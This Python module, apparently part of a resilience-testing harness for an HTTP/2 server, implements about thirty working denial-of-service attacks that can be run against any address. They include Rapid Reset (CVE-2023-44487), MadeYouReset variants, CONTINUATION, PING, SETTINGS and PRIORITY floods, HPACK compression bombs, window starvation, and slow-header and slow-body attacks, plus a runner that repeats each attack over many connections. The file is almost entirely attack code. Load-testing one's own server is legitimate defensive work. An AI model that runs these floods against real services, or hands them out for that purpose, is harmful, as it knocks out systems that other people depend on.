"""The attacks by name; each takes (address, until) and is one connection's worth."""

from __future__ import annotations

import time
from typing import Callable

from attacks.wire import Attacker, request, request_block
from harness.h2_client import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW,
    PADDED,
    PING,
    PRIORITY,
    SETTINGS,
    hpack_string,
    make_frame,
    rst_stream,
    settings_frame,
    window_update,
)

ATTACKS: dict[str, Callable] = {}


def attack(function: Callable) -> Callable:
    ATTACKS[function.__name__] = function
    return function


def endless(attacker: Attacker, batch: Callable[[int], bytes], first: int = 1, step: int = 2, size: int = 50) -> Attacker:
    """Batches of frames, numbered on, until the end."""
    number = first
    while not attacker.over:
        attacker.push(b"".join(batch(number + step * i) for i in range(size)))
        number += step * size
    return attacker


# D1, D2: resets


@attack
def rapid_reset(address, until) -> Attacker:
    """CVE-2023-44487: requests that are cancelled at once."""
    return endless(Attacker(address, until), lambda stream: request(stream, "/slow") + rst_stream(stream))


@attack
def made_you_reset_window(address, until) -> Attacker:
    """CVE-2025-8671: a WINDOW_UPDATE of 0 makes the server reset."""
    return endless(Attacker(address, until), lambda stream: request(stream, "/slow") + window_update(stream, 0))


@attack
def made_you_reset_overflow(address, until) -> Attacker:
    return endless(Attacker(address, until), lambda stream: request(stream, "/slow") + window_update(stream, 0x7FFFFFFF))


@attack
def made_you_reset_priority(address, until) -> Attacker:
    """A PRIORITY frame of the wrong length, and one that depends on itself."""
    return endless(
        Attacker(address, until),
        lambda stream: request(stream, "/slow")
        + make_frame(PRIORITY, 0, stream, b"\0" * 4 if stream % 4 == 1 else stream.to_bytes(4, "big") + b"\0"),
    )


@attack
def made_you_reset_data(address, until) -> Attacker:
    """DATA behind END_STREAM."""
    return endless(Attacker(address, until), lambda stream: request(stream, "/slow") + make_frame(DATA, 0, stream, b"x"))


@attack
def made_you_reset_length(address, until) -> Attacker:
    """More DATA than content-length promised."""
    more = b"\x0f\x0d" + hpack_string(b"1")
    return endless(
        Attacker(address, until),
        lambda stream: request(stream, "/slow", "POST", end=False, more=more) + make_frame(DATA, 0, stream, b"xx"),
    )


@attack
def made_you_reset_header(address, until) -> Attacker:
    """Heads that are refused."""
    more = b"\0" + hpack_string(b"X-Upper") + hpack_string(b"1")
    return endless(Attacker(address, until), lambda stream: request(stream, "/slow", more=more))


# D3 to D5, D7: floods


@attack
def continuation_flood(address, until) -> Attacker:
    """CVE-2024-27316: CONTINUATION without an end."""
    attacker = Attacker(address, until)
    attacker.push(make_frame(HEADERS, END_STREAM, 1, request_block()))
    line = b"\0" + hpack_string(b"x-a") + hpack_string(b"y" * 100)
    return endless(attacker, lambda _: make_frame(CONTINUATION, 0, 1, line * 10))


@attack
def continuation_empty_flood(address, until) -> Attacker:
    attacker = Attacker(address, until)
    attacker.push(make_frame(HEADERS, END_STREAM, 1, request_block()))
    return endless(attacker, lambda _: make_frame(CONTINUATION, 0, 1))


@attack
def ping_flood(address, until) -> Attacker:
    return endless(Attacker(address, until), lambda _: make_frame(PING, 0, 0, b"12345678"))


@attack
def ping_flood_unread(address, until) -> Attacker:
    """CVE-2019-9512: the answers pile up."""
    return endless(Attacker(address, until, reads=False, receive_buffer=4096), lambda _: make_frame(PING, 0, 0, b"1" * 8))


@attack
def settings_flood(address, until) -> Attacker:
    return endless(Attacker(address, until), lambda _: settings_frame({INITIAL_WINDOW: 65535}))


@attack
def settings_flood_unread(address, until) -> Attacker:
    """CVE-2019-9515."""
    return endless(Attacker(address, until, reads=False, receive_buffer=4096), lambda _: make_frame(SETTINGS))


@attack
def settings_large(address, until) -> Attacker:
    """Thousands of settings in each frame."""
    return endless(Attacker(address, until), lambda _: make_frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64" * 2000), size=5)


@attack
def empty_data_flood(address, until) -> Attacker:
    """CVE-2019-9518."""
    attacker = Attacker(address, until)
    attacker.push(request(1, "/slow", "POST", end=False))
    return endless(attacker, lambda _: make_frame(DATA, 0, 1))


@attack
def padding_flood(address, until) -> Attacker:
    """DATA that is padding alone."""
    attacker = Attacker(address, until)
    attacker.push(request(1, "/slow", "POST", end=False))
    return endless(attacker, lambda _: make_frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255))


@attack
def priority_flood(address, until) -> Attacker:
    """CVE-2019-9513."""
    return endless(Attacker(address, until), lambda n: make_frame(PRIORITY, 0, n, b"\0\0\0\0\x10"))


@attack
def priority_update_flood(address, until) -> Attacker:
    return endless(Attacker(address, until), lambda n: make_frame(0x10, 0, 0, n.to_bytes(4, "big") + b"u=1"))


@attack
def window_update_flood(address, until) -> Attacker:
    return endless(Attacker(address, until), lambda _: window_update(0, 1))


@attack
def unknown_frame_flood(address, until) -> Attacker:
    return endless(Attacker(address, until), lambda _: make_frame(0xB7, 0, 0))


@attack
def hpack_bomb(address, until) -> Attacker:
    """One entry of 4,000 bytes, then thousands of references to it in each head."""
    attacker = Attacker(address, until)
    entry = b"\x40" + hpack_string(b"x-bomb") + hpack_string(b"b" * 4000)
    attacker.push(request(1, more=entry))
    return endless(attacker, lambda stream: request(stream, more=b"\xbe" * 15_000), first=3, size=5)


@attack
def hpack_churn(address, until) -> Attacker:
    """Entries that push each other out, and a table size that changes in each head; every head is too large."""
    lines = b"".join(b"\x40" + hpack_string(b"x-%d" % number) + hpack_string(b"v" * 100) for number in range(130))

    def one(stream: int) -> bytes:
        return make_frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x20\x3f\xe1\x1f" + request_block() + lines)

    return endless(Attacker(address, until), one, size=5)


# D6, D9: slowness


def idle_until_cut(attacker: Attacker) -> Attacker:
    while not attacker.over:
        attacker.rest(0.2)
    return attacker


@attack
def window_starvation(address, until) -> Attacker:
    """CVE-2019-9517: 100 large answers that get no window."""
    attacker = Attacker(address, until, settings={INITIAL_WINDOW: 0})
    attacker.push(b"".join(request(1 + 2 * number, "/large") for number in range(100)))
    return idle_until_cut(attacker)


@attack
def data_dribble(address, until) -> Attacker:
    """CVE-2019-9511: 100 large answers, a byte of window at a time for each."""
    attacker = Attacker(address, until, settings={INITIAL_WINDOW: 1})
    streams = [1 + 2 * number for number in range(100)]
    attacker.push(b"".join(request(stream, "/large") for stream in streams))
    while not attacker.over:
        attacker.push(b"".join(window_update(stream, 1) for stream in streams))
        attacker.rest(0.02)
    return attacker


@attack
def slow_reader(address, until) -> Attacker:
    """Windows without end and a socket that is not read (CVE-2019-9517 the other way round)."""
    attacker = Attacker(address, until, reads=False, settings={INITIAL_WINDOW: 0x7FFFFFFF}, receive_buffer=4096)
    attacker.push(window_update(0, 0x7FFF0000 - 65535))
    attacker.push(b"".join(request(1 + 2 * number, "/large") for number in range(100)))
    return idle_until_cut(attacker)


@attack
def slow_headers(address, until) -> Attacker:
    """A head that comes byte by byte."""
    attacker = Attacker(address, until)
    wire = make_frame(HEADERS, END_STREAM, 1, request_block() + b"\0" + hpack_string(b"x-a") + hpack_string(b"y" * 100))
    for byte in wire:
        if attacker.over:
            break
        attacker.push(bytes([byte]))
        attacker.rest(0.05)
    return idle_until_cut(attacker)


@attack
def slow_continuation(address, until) -> Attacker:
    """A head whose CONTINUATION frames come one by one, each with hardly anything."""
    attacker = Attacker(address, until)
    attacker.push(make_frame(HEADERS, END_STREAM, 1, request_block()))
    line = b"\0" + hpack_string(b"x") + hpack_string(b"y")
    while not attacker.over:
        attacker.push(make_frame(CONTINUATION, 0, 1, line))
        attacker.rest(0.2)
    return attacker


@attack
def slow_body(address, until) -> Attacker:
    """100 uploads that stop after their first byte."""
    attacker = Attacker(address, until)
    for number in range(100):
        stream = 1 + 2 * number
        attacker.push(request(stream, "/upload", "POST", end=False) + make_frame(DATA, 0, stream, b"x"))
    return idle_until_cut(attacker)


@attack
def slow_preface(address, until) -> Attacker:
    """Nothing behind the preface's first bytes."""
    return idle_until_cut(Attacker(address, until, preface=b"PRI * HTTP/2.0\r\n\r"))


def run(name: str, address: tuple[str, int], seconds: float, connections: int = 200) -> dict:
    """One connection after the other, until the time is over."""
    until, ends = time.monotonic() + seconds, []
    while time.monotonic() < until and len(ends) < connections:
        try:
            ends.append(ATTACKS[name](address, until).result())
        except OSError as problem:  # postern may refuse to accept more
            ends.append({"ended": f"refused: {problem}", "goaway": None, "resets": 0, "sent": 0})
            time.sleep(0.05)
    return {"connections": len(ends), "cut": sum(bool(one["ended"]) for one in ends), "ends": ends[:5] + ends[-1:],
            "resets": sum(one["resets"] for one in ends), "sent": sum(one["sent"] for one in ends),
            "most": max(one["sent"] for one in ends), "goaways": sorted({str(one["goaway"]) for one in ends})}
